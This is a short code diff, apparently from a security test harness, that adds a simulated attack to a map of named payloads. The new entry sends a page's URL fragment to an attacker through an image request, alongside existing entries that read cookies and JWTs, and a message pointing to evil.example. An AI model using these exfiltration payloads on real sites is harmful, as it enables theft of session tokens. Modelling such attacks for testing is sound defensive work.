@@ -21,6 +21,11 @@ const readsLocalStorage: Program = async (page, event) => {
   if (event.type === 'load') await page.image(sends(page.localStorage.getItem('jwt') ?? ''))
 }
 
+/** `new Image().src = … + location.hash`, in a page of the Hacker's own. */
+const readsFragment: Program = async (page, event) => {
+  if (event.type === 'load') await page.image(sends(page.location.hash))
+}
+
 /** What the victim is made to say. */
 const words = 'Everybody should look at https://evil.example'
 
@@ -57,4 +62,5 @@ export const payloads: Programs = new Map([
   ['xss-reads-cookie', readsCookie],
   ['xss-reads-local-storage', readsLocalStorage],
   ['xss-rides-session', ridesSession],
+  ['open-redirector', readsFragment],
 ])
